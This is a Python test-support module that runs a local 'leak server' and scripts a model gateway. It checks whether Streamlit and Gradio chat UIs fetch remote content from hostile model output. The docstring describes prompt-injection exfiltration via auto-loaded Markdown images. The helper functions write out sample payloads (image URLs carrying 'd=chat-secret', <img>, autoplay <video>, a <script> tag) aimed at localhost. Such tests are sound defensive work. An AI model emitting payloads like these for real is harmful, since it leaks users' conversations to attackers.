"""Untrusted model output, scripted: a leak-counting HTTP server and a gateway that answers hostile text.

A prompt injection can make a model answer ``![i](https://attacker/?d=<the chat>)``; a UI that
renders it fetches the URL with no click. ``LeakServer`` is the attacker: a local HTTP server
that records every request. ``hostile_config(leak)`` is a ``modelriver dev --config`` file whose
scripted workflows put hostile Markdown where model and error text go:

- ``demo-chat`` and ``demo-tools`` answer ``ANSWER`` (remote images inline and by reference, an
  image inside a link, ``<img>``, ``<script>``, ``<video>``);
- ``demo-tools`` first calls a tool named ``TOOL_NAME`` (backticks, ``:red[...]``, an image);
- ``demo-failover``'s first provider fails with ``REASON`` (the failover reason);
- ``demo-error`` fails with ``ERROR`` (Streamlit directives, bold, a link, an image, HTML).

Every URL points at the leak server, tagged by where it came from; a safe UI makes no request
to it (a link is fetched only when a user clicks it). Used by the Streamlit and Gradio browser
tests and by ``tests/e2e/test_abuse.py``.
"""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from support import Gateway, start_gateway

__all__ = [
    "ANSWER_MARKERS", "LeakServer", "error_text", "hostile_answer", "hostile_config",
    "hostile_gateway", "reason_text", "tool_name",
]

ANSWER_MARKERS = ("Intro", "bold", "safe link", "answer image", "ref image", "the end")
"""Words of the hostile answer a UI must still show (the images' alt texts among them)."""

_PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d4944415478da63f8cfc0f01f0005000201a5d0a8d60000000049454e44ae426082")


class LeakServer:
    """An HTTP server on 127.0.0.1 that answers every GET with a 1x1 PNG and records its path.

    Use as a context manager, or call ``close()``.
    """

    def __init__(self) -> None:
        hits: list[str] = []
        lock = threading.Lock()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                with lock:
                    hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(_PIXEL)))
                self.end_headers()
                self.wfile.write(_PIXEL)

            do_POST = do_GET

            def log_message(self, *args: object) -> None:
                pass

        self._lock = lock
        self._hits = hits
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self._thread = threading.Thread(target=self._server.serve_forever, name="leak-server", daemon=True)
        self._thread.start()

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self._server.server_address[1]}"

    def url(self, tag: str) -> str:
        """A URL that, once fetched, shows up in ``hits`` as ``/leak/<tag>?d=...``."""
        return f"{self.base}/leak/{tag}?d=chat-secret"

    @property
    def hits(self) -> list[str]:
        """The paths requested so far (a copy)."""
        with self._lock:
            return list(self._hits)

    def wait_for_hit(self, within: float) -> list[str]:
        """The hits once there is one, or [] after ``within`` seconds (used to confirm a fetch)."""
        deadline = time.monotonic() + within
        while not self.hits and time.monotonic() < deadline:
            time.sleep(0.02)
        return self.hits

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join(timeout=5)

    def __enter__(self) -> LeakServer:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()


def hostile_answer(leak: LeakServer) -> str:
    """The answer of ``demo-chat`` and ``demo-tools``: Markdown that would fetch ``leak`` URLs."""
    return "\n\n".join([
        f"Intro **bold** and a [safe link]({leak.base}/link?d=click-only).",
        f"![answer image]({leak.url('answer-inline')})",
        "![ref image][r]",
        f"[![linked image]({leak.url('answer-linked')})]({leak.base}/link?d=click-only)",
        f'<img src="{leak.url("answer-html")}" alt="html image">',
        '<script>document.title = "pwned"</script>',
        f'<video src="{leak.url("answer-video")}" autoplay></video>',
        f"Inline <img src={leak.url('answer-inline-html')}> tag, the end.",
        f"[r]: {leak.url('answer-ref')}",
    ])


def tool_name(leak: LeakServer) -> str:
    """The tool ``demo-tools`` calls: backticks, a Streamlit directive and an image in its name."""
    return f"look`up` :red[TOOL] ![t]({leak.url('tool-name')})"


def reason_text(leak: LeakServer) -> str:
    """Why ``demo-failover``'s first provider fails (the failover reason)."""
    return f":red[REASON] **loud** ![r]({leak.url('reason')}) <img src={leak.url('reason-html')}>"


def error_text(leak: LeakServer) -> str:
    """Why ``demo-error`` fails (the error message)."""
    return (f":red[ERROR] **loud** [click]({leak.base}/link?d=error) ![e]({leak.url('error')}) "
            f"<img src={leak.url('error-html')}> :material/cancel: $x^2$")


def hostile_config(leak: LeakServer) -> str:
    """``modelriver dev --config`` TOML for the scripted workflows above (fast paced)."""
    answer = hostile_answer(leak)
    arguments = {"q": f"![a]({leak.url('tool-args')}) <img src={leak.url('tool-args-html')}>"}
    return "\n".join([
        "[providers.demo-chat]", f"text = {json.dumps(answer)}", "tokens_per_second = 200", "",
        "[providers.demo-tools]", f"text = {json.dumps(answer)}", "tokens_per_second = 200",
        f"tool_call = {{ name = {json.dumps(tool_name(leak))}, arguments = {{ q = {json.dumps(arguments['q'])} }} }}",
        "",
        "[providers.demo-flaky]", f"error = {json.dumps(reason_text(leak))}", "fail_after = 2",
        "tokens_per_second = 200", "",
        "[providers.demo-backup]", "tokens_per_second = 200", "",
        "[providers.demo-broken]", f"error = {json.dumps(error_text(leak))}", "",
    ]) + "\n"


@contextmanager
def hostile_gateway(leak: LeakServer, directory: Path) -> Iterator[Gateway]:
    """A ``modelriver dev`` gateway running ``hostile_config(leak)`` (written to ``directory``)."""
    config = directory / "hostile_gateway.toml"
    config.write_text(hostile_config(leak), encoding="utf-8")
    gateway = start_gateway("--config", str(config))
    try:
        yield gateway
    finally:
        gateway.process.stop()
